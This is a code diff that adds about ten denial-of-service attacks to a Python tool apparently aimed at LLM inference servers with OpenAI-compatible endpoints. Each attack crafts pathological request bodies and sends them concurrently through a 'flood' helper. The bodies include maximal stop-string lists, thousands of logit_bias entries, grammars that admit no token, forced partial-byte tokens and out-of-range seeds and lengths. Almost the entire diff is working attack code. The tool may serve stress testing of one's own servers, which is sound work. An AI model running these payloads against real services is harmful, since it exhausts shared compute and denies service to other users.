@@ -26,6 +26,7 @@ READ_BYTES = 65_536
 MAX_READ_BYTES = 2_000_000
 DRIP_S = 0.5
 CHAT = "/v1/chat/completions"
+TEXTS = "/v1/completions"
 STORED = "/api/chat/completions"
 
 
@@ -54,6 +55,11 @@ class Target:
         """A chat request."""
         body = {"model": self.model, "messages": [{"role": "user", "content": content}], "max_tokens": 2000}
         return self.request("POST", path, json.dumps(body | parameters).encode())
+
+    def texts(self, count: int, **parameters: Any) -> bytes:
+        """A request of so many short texts."""
+        body = {"model": self.model, "prompt": [f"{number}" for number in range(count)]}
+        return self.request("POST", TEXTS, json.dumps(body | parameters).encode())
 
     def begin(self) -> None:
         """Say that what is to be sent is ready, and the attack begins."""
@@ -283,6 +289,114 @@ async def images(target: Target) -> None:
     await flood(target, [target.request("POST", CHAT, json.dumps(body).encode())], 4)
 
 
+# --- what the step that all requests share has to work for
+
+
+async def stops(target: Target) -> None:
+    """As many characters of stop strings as may be, of which an answer of one letter never begins any."""
+    bias = {str(await _token(target, "a")): 100}
+    forced: dict[str, Any] = {"logit_bias": bias, "ignore_eos": True}
+    payloads = [target.chat(stop=_stops(count, chars), n=n, **forced) for count, chars, n in STOPS]
+    await flood(target, payloads, 4, read_bytes=200_000)
+
+
+async def stops_of_prompts(target: Target) -> None:
+    """The same with many prompts in place of many choices."""
+    forced = {"logit_bias": {str(await _token(target, "a")): 100}, "ignore_eos": True, "max_tokens": 2000}
+    payloads = [target.texts(n, stop=_stops(count, chars), **forced) for count, chars, n in STOPS]
+    await flood(target, payloads, 4, read_bytes=200_000)
+
+
+async def stops_begun(target: Target) -> None:
+    """Stop strings that are always half there: nothing may be sent, and all of it is looked at again."""
+    bias = {str(await _token(target, "a")): 100}
+    forced: dict[str, Any] = {"logit_bias": bias, "ignore_eos": True, "stream": True}
+    begun = ["a" * 999 + chr(0x62 + number) for number in range(16)]
+    await flood(target, [target.chat(stop=begun, n=n, **forced) for n in (4, 128)], 4, read_bytes=200_000)
+
+
+async def broken_characters(target: Target) -> None:
+    """Answers of half characters without an end, with stop strings and without."""
+    half = str(await _half_character(target))
+    forced: dict[str, Any] = {"logit_bias": {half: 100}, "ignore_eos": True, "stream": True}
+    forced["max_tokens"] = 7000
+    payloads = [target.chat(n=16, **forced), target.chat(n=16, stop=["\n\n", "END"], **forced)]
+    await flood(target, payloads, 2)
+
+
+async def biases(target: Target) -> None:
+    """As many entries of `logit_bias`, and choices, as may be; one token, and again."""
+    entries = {str(token_id): 1 for token_id in range(1024)}
+    payloads = [target.chat(n=n, logit_bias=entries, max_tokens=1) for n in (128, 16)]
+    await flood(target, payloads, 8)
+
+
+async def biases_of_prompts(target: Target) -> None:
+    """The same with many prompts in place of many choices."""
+    entries = {str(token_id): 1 for token_id in range(1024)}
+    await flood(target, [target.texts(n, logit_bias=entries, max_tokens=1) for n in (128, 16)], 8)
+
+
+async def biases_of_requests(target: Target) -> None:
+    """Many requests of one choice with all entries, some spelled twice, which come and go with each token."""
+    entries = {str(token_id): 1 for token_id in range(512)} | {f"0{token_id}": -1 for token_id in range(512)}
+    await flood(target, [target.chat(logit_bias=entries, max_tokens=n) for n in (1, 2, 3)], 64)
+
+
+async def dead_ends(target: Target) -> None:
+    """Grammars that leave no token: the end is forbidden, or what they want is, or nothing is left."""
+    never = 'root ::= "abc" never\nnever ::= never "b"'
+    shapes: list[dict[str, Any]] = [
+        {"regex": "a", "min_tokens": 500},
+        {"response_format": _format({"const": None}), "min_tokens": 500},
+        {"regex": "a(bcd)+e", "min_tokens": 500, "stop_token_ids": [await _token(target, "b")]},
+        {"ebnf": never},
+        {"ebnf": never, "ignore_eos": True, "no_stop_trim": True},
+        {"regex": "(ab)*", "min_tokens": 500, "stop_token_ids": list(range(16))},
+    ]
+    await flood(target, [target.chat(n=n, **shape) for shape in shapes for n in (1, 128)], 8)
+
+
+async def numbers(target: Target) -> None:
+    """Numbers at the ends of their ranges, and beyond: seeds, lengths, biases, penalties."""
+    shapes: list[dict[str, Any]] = [
+        {"seed": 2**63 - 1, "n": 8},
+        {"seed": -(2**63), "n": 8},
+        {"min_tokens": 2**31, "max_tokens": 2**31},
+        {"temperature": 1.1e-6, "repetition_penalty": 0.01, "logit_bias": {"9": 100, "8": -100}},
+        {"top_p": 1e-46, "top_k": 1_000_000, "min_p": 1},
+        {"frequency_penalty": 2, "presence_penalty": -2, "repetition_penalty": 2},
+    ]
+    await flood(target, [target.chat(**{"max_tokens": 20} | shape) for shape in shapes], 8)
+
+
+STOPS = ((16, 1000, 128), (16, 1000, 4), (1, 512, 128), (16, 32, 128))
+"""Stop strings, characters of each, and choices: the first is over the bound, the others are the bound."""
+
+
+def _stops(count: int, chars: int) -> list[str]:
+    return ["b" + "a" * (chars - 2) + chr(0x62 + number) for number in range(count)]
+
+
+async def _token(target: Target, text: str) -> int:
+    """The token of a letter."""
+    body = json.dumps({"model": target.model, "prompt": text, "add_special_tokens": False}).encode()
+    return int(_answer(await target.exchange(target.request("POST", "/tokenize", body)))["tokens"][0])
+
+
+async def _half_character(target: Target) -> int:
+    """A token that is a byte of a character."""
+    body = json.dumps({"model": target.model, "tokens": [[token_id] for token_id in range(600)]}).encode()
+    texts = _answer(await target.exchange(target.request("POST", "/detokenize", body)))["text"]
+    return int(texts.index("\ufffd"))
+
+
+def _answer(response: bytes) -> Any:
+    """The JSON of a response, whose body may come in one chunk."""
+    content = response.partition(b"\r\n\r\n")[2]
+    return json.loads(content[content.index(b"{") : content.rindex(b"}") + 1])
+
+
 def _format(schema: dict[str, Any]) -> dict[str, Any]:
     return {"type": "json_schema", "json_schema": {"name": "x", "schema": schema}}
 
@@ -317,6 +431,15 @@ ATTACKS: dict[str, Attack] = {
         moderations,
         histories,
         images,
+        stops,
+        stops_of_prompts,
+        stops_begun,
+        broken_characters,
+        biases,
+        biases_of_prompts,
+        biases_of_requests,
+        dead_ends,
+        numbers,
     )
 }
 KEYLESS = ("bodies", "dripped_bodies", "dripped_refusals", "dripped_heads", "refusals", "connections")
